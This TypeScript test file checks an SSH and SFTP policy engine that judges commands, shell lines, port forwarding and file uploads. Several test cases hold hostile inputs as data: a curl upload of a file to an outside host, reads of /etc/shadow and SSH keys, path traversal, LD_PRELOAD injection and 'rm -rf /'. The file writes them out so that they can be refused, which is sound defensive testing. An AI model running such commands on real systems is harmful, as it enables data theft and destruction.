/** SSH channels under policy: what they are for, their lines, sftp, uploads, forwarding. */
import { deepStrictEqual, match, notStrictEqual, ok, strictEqual } from "node:assert/strict";
import { Limits } from "#schemas/config.ts";
import type { Open } from "#schemas/frames.ts";
import { encodeSftpClient, type SftpClientPacket, sftpOpen } from "#schemas/wire/sftp/client.ts";
import { type ChannelMessage, encodeChannelMessages } from "#schemas/wire/ssh/channel.ts";
import { pty } from "#schemas/wire/ssh/testing.ts";
import type { Judgement, SessionJudge } from "../session_judge.ts";
import { canonicalHost } from "./host.ts";
import { sftpAsked } from "./sftp.ts";
import { agent, openOf, person, sshJudge } from "./testing.ts";

function judgeOf(connection = "lab", principal = agent, protocol: Open["protocol"] = "ssh") {
  return talk(sshJudge().admitted(openOf(connection, principal, protocol), principal));
}

/** Sends requests; those that are allowed take effect, as the actor lets them. */
function talk(session: SessionJudge) {
  let request = 0;
  return { session, say, exec, sftp };

  function say(...messages: ChannelMessage[]): Judgement {
    return send(encodeChannelMessages(messages));
  }

  function send(bytes: Uint8Array): Judgement {
    request += 1;
    const asked = { request, digest: `d${request}`, bytes, continues: request > 1 };
    const judgement = session.request(asked);
    if (judgement.decision === "allow") judgement.consequence.allowed();
    return judgement;
  }

  function exec(command: string): Judgement {
    return say({ kind: "exec", command: utf8(command) });
  }

  function sftp(...packets: SftpClientPacket[]): Judgement {
    const data = packets.flatMap((packet) => [...encodeSftpClient(packet)]);
    return say({ kind: "data", data: Uint8Array.from(data) });
  }
}

function utf8(text: string) {
  return new TextEncoder().encode(text);
}

function said({ decision, policies, reasons }: Judgement): string {
  return [decision, ...policies, ...reasons.map(({ code }) => code)].join(" ");
}

const handle = Uint8Array.of(1);

Deno.test("how much a channel gives out is the smallest that connection and policies name", () => {
  const bytesMax = (judgement: Judgement) => judgement.volume?.bytesMax;
  strictEqual(bytesMax(judgeOf().exec("cat reports/a")), 1000);
  strictEqual(bytesMax(judgeOf("lab", person).say(pty, { kind: "shell" })), 5000);
  const shell = judgeOf("strict", person).say(pty, { kind: "shell" }).volume;
  deepStrictEqual([shell?.bytesMax, shell?.bytesOf], [700_000, "session"]);
  const session = judgeOf();
  session.exec("cat reports/a");
  strictEqual(session.say({ kind: "data", data: utf8("x") }).volume, null);
});

Deno.test("a command line is judged by each program and file, and by all of it together", () => {
  const cases: [string, string][] = [
    ["cat reports/a", "allow own-files plain-reads"],
    ["cat /srv/lab/reports/a ~/reports/b", "allow own-files plain-reads"],
    ["cat reports/a /etc/shadow", "deny policy_no_permit"],
    ["wget https://x.example", "deny policy_no_permit policy_no_permit policy_no_permit"],
    ["sudo cat reports/a", "deny sudo-never policy_forbids"],
    ["rm reports/a", "hold removal-is-held approval_needed"],
    ["cat reports/a; rm reports/b", "hold removal-is-held approval_needed"],
    ["cat reports/../../x", "deny policy_no_permit policy_no_permit"],
    ["labtool", "deny policy_no_permit policy_no_permit"],
    ["cat 'reports/a", "deny policy_no_permit"],
  ];
  for (const [command, expected] of cases) strictEqual(said(judgeOf().exec(command)), expected);
});

Deno.test("a channel may last as long as its session, not as long as a statement", () => {
  const { session_ms_max: sessionMs, statement_ms_max: statementMs } = Limits.parse({});
  notStrictEqual(sessionMs, statementMs);
  for (const judged of [judgeOf().exec("cat reports/a"), judgeOf().say(pty, { kind: "shell" })]) {
    strictEqual(judged.durationMsMax, sessionMs);
  }
});

Deno.test("the whole of a command line is judged with the path of each file", () => {
  const judged = judgeOf().exec("cat reports/a | curl -d @reports/b https://x.example");
  ok(judged.reasons.some(({ policy }) => policy === "no-exfiltration"));
});

Deno.test("a refusal names programs, never arguments or paths", () => {
  for (const command of ["cat secret-7", "labtool --password=secret-7", "rm ~/reports/secret-7"]) {
    const { reasons } = judgeOf().exec(command);
    ok(!JSON.stringify(reasons).includes("secret-7"), command);
  }
  const [reason] = judgeOf().exec("sudo cat reports/a").reasons;
  strictEqual(
    reason?.message,
    'policy "sudo-never" forbids administering the system (administer) on connection "lab"',
  );
  strictEqual(reason.detail, "Refused: administer (as_other_user) of sudo.");
});

Deno.test("a channel is for one thing, asked for as RFC 4254 has it", () => {
  const exec: ChannelMessage = { kind: "exec", command: utf8("ls") };
  const wrong: ChannelMessage[][] = [
    [exec, exec],
    [{ kind: "data", data: utf8("x") }],
    [exec, pty],
    [{ kind: "env", name: "LD_PRELOAD", value: "x" }, exec],
    [{ kind: "env", name: "LC_ALL", value: "zh_TW.BIG5" }, exec],
    [{ kind: "env", name: "LANG", value: "zh_TW" }, exec],
    [pty, { kind: "direct_tcpip", ...database, host: "db.example" }],
    [{ kind: "exec", command: Uint8Array.of(0xff) }],
    [{ kind: "exec", command: utf8("ls\0 /etc") }],
    [],
  ];
  for (const messages of wrong) {
    const judged = judgeOf().say(...messages);
    strictEqual(said(judged), "deny malformed_message");
    match(judged.reasons[0]?.hint ?? "", /^Send one plain command/);
  }
  const right = judgeOf().say(pty, { kind: "env", name: "LC_ALL", value: "C" }, exec);
  strictEqual(right.decision, "allow");
  for (const value of ["", "UTF-8", "en_US.UTF-8", "de_DE@euro", "ja_JP.eucJP", "zh_CN.utf8"]) {
    const judged = judgeOf().say({ kind: "env", name: "LC_CTYPE", value }, exec);
    strictEqual(judged.decision, "allow", value);
  }
  deepStrictEqual(right.plan.stream, {
    content: "terminal",
    revealed: [],
    holdMsMax: null,
    files: "mask",
  });
});

const database = { port: 5432, originatorAddress: "127.0.0.1", originatorPort: 1 };

Deno.test("forwarding is judged by host and port", () => {
  const forward = (to: string, port: number) => {
    return judgeOf().say({ kind: "direct_tcpip", ...database, host: to, port });
  };
  strictEqual(forward("db.example", 5432).plan.stream?.content, "tunnel");
  strictEqual(forward("db.example", 22).decision, "deny");
  strictEqual(forward("evil.example", 5432).decision, "deny");
  const local = ["127.0.0.1", "127.1", "0x7f.1", "2130706433", "::ffff:127.0.0.1", "0", "0.0.0.0"];
  deepStrictEqual(["DB.Example.", "LOCALHOST", "[::]", "0::1"].map(canonicalHost), [
    "db.example",
    "localhost",
    "::1",
    "::1",
  ]);
  deepStrictEqual(new Set(local.map(canonicalHost)), new Set(["127.0.0.1"]));
  for (const odd of ["x@127.1", "127.1/x", "", "%31", "ⓛocalhost", "a b"]) {
    strictEqual(canonicalHost(odd), odd);
  }
  strictEqual(forward("DB.Example.", 5432).decision, "allow");
});

Deno.test("a person's terminal holds text for 20 ms, and shows the classes they may see", () => {
  const shell = judgeOf("lab", person).say(pty, { kind: "shell" });
  deepStrictEqual(shell.plan.stream, {
    content: "terminal",
    revealed: ["mrn"],
    holdMsMax: 20,
    files: "mask",
  });
  strictEqual(judgeOf("lab", person).say({ kind: "shell" }).plan.stream?.content, "output");
  strictEqual(said(judgeOf().say(pty, { kind: "shell" })), "deny policy_no_permit");
});

Deno.test("a shell's lines pass unless a rule forbids them, and no Enter passes without its line", () => {
  const { say } = judgeOf("lab", person);
  say(pty, { kind: "shell" });
  const line = (screen: string | null, keys: string | null) => {
    return say({ kind: "line", screen, keys }, { kind: "data", data: utf8("\r") });
  };
  strictEqual(said(say({ kind: "data", data: utf8("labtool") })), "allow sees-mrn shells");
  strictEqual(said(line("labtool", null)), "allow sees-mrn shells");
  strictEqual(said(line(null, null)), "allow sees-mrn shells");
  strictEqual(said(line("sudo reboot", null)), "deny sudo-never policy_forbids");
  strictEqual(said(line("ls", "sudo ls")), "deny sudo-never policy_forbids", "either reading");
  strictEqual(said(line("echo 'sudo'", null)), "allow sees-mrn shells");
  strictEqual(said(line("x=$(sudo ls", null)), "deny sudo-never policy_forbids", "unfinished");
  strictEqual(said(line("cat x/../../etc/passwd", null)), "allow sees-mrn shells");
  strictEqual(said(line("cat secrets/../private/a", null)), privately, "a way that may be a link");
  strictEqual(said(line("cd reports", null)), "allow sees-mrn shells");
  strictEqual(said(line("cat ../private/a", null)), privately);
  strictEqual(said(line("if true", null)), "allow sees-mrn shells");
  strictEqual(said(line("sudo ls", null)), "deny sudo-never policy_forbids", "alone");
  strictEqual(said(line("then sudo ls", null)), "deny sudo-never policy_forbids", "inside");
  strictEqual(said(line("fi", null)), "allow sees-mrn shells");
  strictEqual(said(line("for f in a private/b", null)), "allow sees-mrn shells");
  strictEqual(said(line("do cat $f; done", null)), privately);
  // The editor quoted the Enter before it; and what no parser reads is read in pieces.
  strictEqual(said(line("; cat private/a", null)), privately);
  strictEqual(said(line(") ; echo $((a) || (cat private/a; ls)", null)), privately);
  strictEqual(said(say({ kind: "data", data: utf8("ls\r") })), "deny malformed_message");
  strictEqual(said(say({ kind: "data", data: utf8("ls\nls") })), "deny malformed_message");
  strictEqual(said(say({ kind: "data", data: utf8("ls\x0f") })), "deny malformed_message");
  strictEqual(said(say({ kind: "eof" })), "allow sees-mrn shells");
});

Deno.test("a line that is typed unseen passes unless a rule forbids that", () => {
  for (
    const [connection, expected] of [["lab", "allow sees-mrn shells"], ["strict", refused]] as const
  ) {
    const { say } = judgeOf(connection, person);
    say(pty, { kind: "shell" });
    const enter = { kind: "data", data: utf8("\r") } as const;
    strictEqual(said(say({ kind: "hidden_line", characters: 7 }, enter)), expected);
    strictEqual(said(say({ kind: "hidden_line", characters: 7 })), expected);
  }
  const { exec, say } = judgeOf();
  exec("cat");
  strictEqual(said(say({ kind: "hidden_line", characters: 7 })), "deny malformed_message");
});
const refused = "deny nothing-unseen policy_forbids";
const privately = "deny private-never policy_forbids";

Deno.test("input of a program goes with the program", () => {
  const { exec, say } = judgeOf();
  strictEqual(exec("cat").decision, "allow");
  strictEqual(said(say({ kind: "data", data: utf8("rm -rf /\n") })), "allow plain-reads");
  const line: ChannelMessage = { kind: "line", screen: "ls", keys: null };
  strictEqual(said(say(line)), "deny malformed_message");
  strictEqual(said(say({ kind: "exec", command: utf8("ls") })), "deny malformed_message");
});

Deno.test("a file that is opened over sftp may be read unless it is opened to write alone", () => {
  const { write, read, append, create, truncate } = sftpOpen;
  for (
    const [flags, effects] of [
      [write | create | truncate, ["write"]],
      [read | write, ["read", "write"]],
      // Servers open these to read (OpenSSH's flags_from_portable).
      [create, ["read", "write"]],
      [append | truncate, ["read", "write"]],
      [0, ["read"]],
    ] as const
  ) {
    const packet = { kind: "open", id: 1, path: "drop/x", flags, attributes: {} } as const;
    const asked = sftpAsked(encodeSftpClient(packet), new Map(), "/srv/lab");
    deepStrictEqual(asked.kind === "asked" && asked.analyses[0]?.effects, effects, `${flags}`);
  }
});

Deno.test("sftp is judged by path and kind", () => {
  const { say, sftp } = judgeOf();
  const opening = say({ kind: "subsystem", name: "sftp" });
  strictEqual(opening.plan.stream?.content, "sftp");
  const open = (path: string, flags: number): SftpClientPacket => {
    return { kind: "open", id: 1, path, flags, attributes: {} };
  };
  const cases: [SftpClientPacket, string][] = [
    [{ kind: "init", version: 3 }, "allow opens"],
    [{ kind: "realpath", id: 1, path: "." }, "allow opens"],
    [{ kind: "opendir", id: 1, path: "/srv/lab" }, "allow list-home"],
    [open("reports/a", sftpOpen.read), "allow own-files"],
    [open("/srv/lab/reports/a", sftpOpen.read), "allow own-files"],
    [open("/etc/shadow", sftpOpen.read), "deny policy_no_permit"],
    [open("reports/x/../a", sftpOpen.read), "allow own-files"],
    [open("/srv/lab/notes/.././reports/a", sftpOpen.read), "allow own-files"],
    [open("reports/../../x", sftpOpen.read), "deny policy_no_permit"],
    [open("reports/../.ssh/id", sftpOpen.read), "deny policy_no_permit"],
    [open("reports/a\0", sftpOpen.read), "deny unsupported_statement"],
    [open("", sftpOpen.read), "deny unsupported_statement"],
    [open("~/reports/a", sftpOpen.read), "deny policy_no_permit"],
    [open("reports/new", sftpOpen.write | sftpOpen.create), "allow own-files"],
    [{ kind: "remove", id: 1, path: "reports/a" }, "hold removal-is-held approval_needed"],
    [{ kind: "rename", id: 1, from: "reports/a", to: "reports/b" }, "allow own-files"],
    [{ kind: "rename", id: 1, from: "reports/a", to: "a" }, "deny policy_no_permit"],
    [{ kind: "symlink", id: 1, from: "/etc/shadow", to: "reports/x" }, "deny policy_no_permit"],
    [{ kind: "symlink", id: 1, from: "../x", to: "reports/x" }, "deny unsupported_statement"],
    [{ kind: "symlink", id: 1, from: "a", to: "reports/x" }, "allow own-files"],
    [{ kind: "hardlink", id: 1, from: "/etc/shadow", to: "reports/x" }, "deny policy_no_permit"],
    [{ kind: "fsetstat", id: 1, handle, attributes: { size: 0n } }, "deny policy_no_permit"],
    [{ kind: "read", id: 1, handle, offset: 0n, length: 10 }, "allow opens"],
    [{ kind: "unknown_extension", id: 1, name: "x@y" }, "deny unsupported_statement"],
  ];
  for (const [packet, expected] of cases) {
    strictEqual(said(sftp(packet)), expected, JSON.stringify(packet, (_, value) => `${value}`));
  }
  const mixed = sftp(open("reports/a", sftpOpen.read), open("/etc/shadow", sftpOpen.read));
  strictEqual(mixed.decision, "deny", "one denied packet denies its request");
  strictEqual(
    said(say({ kind: "data", data: Uint8Array.of(0, 0, 0, 9, 3) })),
    "deny malformed_message",
  );
});

Deno.test("attributes by handle are judged for every file that is written, however many", () => {
  for (const listed of [false, true]) {
    const { say, sftp } = judgeOf();
    say({ kind: "subsystem", name: "sftp" });
    if (listed) strictEqual(said(sftp({ kind: "opendir", id: 1, path: "." })), "allow list-home");
    const flags = sftpOpen.write | sftpOpen.create;
    for (let count = 0; count < 600; count++) {
      const path = `reports/${count % 20}/${count}`;
      const opened = sftp({ kind: "open", id: 1, path, flags, attributes: {} });
      strictEqual(said(opened), "allow own-files", path);
    }
    const changed = sftp({ kind: "fsetstat", id: 1, handle, attributes: { permissions: 0o600 } });
    strictEqual(said(changed), listed ? "deny policy_no_permit" : "allow own-files");
  }
});

Deno.test("an approval of an sftp operation is bound to its channel", () => {
  const remove = (first: ChannelMessage[]) => {
    const { say, sftp } = judgeOf();
    say(...first, { kind: "subsystem", name: "sftp" });
    return sftp({ kind: "remove", id: 1, path: "reports/a" });
  };
  deepStrictEqual(remove([]).facts, ["ssh continuation", "d1", "lab"]);
  strictEqual(remove([]).needs[0]?.group, "compliance");
});

Deno.test("content with protected data is refused where a target takes none, however it is cut", () => {
  const text = utf8("patient 536-22-8741 of today\n");
  for (let cut = 1; cut < text.length; cut++) {
    const { say, sftp } = judgeOf("strict");
    say({ kind: "subsystem", name: "sftp" });
    const write = (offset: number, data: Uint8Array) => {
      return said(sftp({ kind: "write", id: 1, handle, offset: BigInt(offset), data }));
    };
    const both = [write(0, text.subarray(0, cut)), write(cut, text.subarray(cut))];
    ok(both.includes("deny upload_refused"), `cut at ${cut} ${both}`);
  }
  const { say, sftp } = judgeOf("strict");
  say({ kind: "subsystem", name: "sftp" });
  const scattered = sftp({ kind: "write", id: 1, handle, offset: 9n, data: text });
  strictEqual(said(scattered), "deny malformed_message");
  const judged = sftp({ kind: "write", id: 1, handle, offset: 0n, data: text });
  deepStrictEqual(judged.reasons[0]?.detail, "Found: ssn.");
  ok(!JSON.stringify(judged.reasons).includes("8741"));
  const program = judgeOf("strict");
  program.exec("cat");
  strictEqual(said(program.say({ kind: "data", data: text })), "deny upload_refused");
  const loose = judgeOf();
  loose.say({ kind: "subsystem", name: "sftp" });
  notStrictEqual(
    loose.sftp({ kind: "write", id: 1, handle, offset: 9n, data: text }).decision,
    "deny",
  );
});

Deno.test("a session whose edge speaks another protocol than its connection is refused", () => {
  const postgres = judgeOf("ehr");
  strictEqual(said(postgres.session.connect()), "deny unknown_connection");
  strictEqual(said(judgeOf("lab", agent, "postgres").session.connect()), "deny unknown_connection");
  strictEqual(said(judgeOf().session.connect()), "allow opens");
});

Deno.test("a replayed continuation does what it did", () => {
  const { say, sftp, session } = judgeOf();
  say({ kind: "subsystem", name: "sftp" });
  const open: SftpClientPacket = {
    kind: "open",
    id: 1,
    path: "reports/a",
    flags: sftpOpen.read,
    attributes: {},
  };
  const bytes = encodeChannelMessages([{ kind: "data", data: encodeSftpClient(open) }]);
  session.understand({ request: 2, digest: "d2", bytes, continues: true }, []).allowed();
  const change = sftp({ kind: "fsetstat", id: 1, handle, attributes: { permissions: 0o600 } });
  strictEqual(said(change), "allow own-files");
  strictEqual(change.statements[0]?.access?.path, "~/reports/a");
});
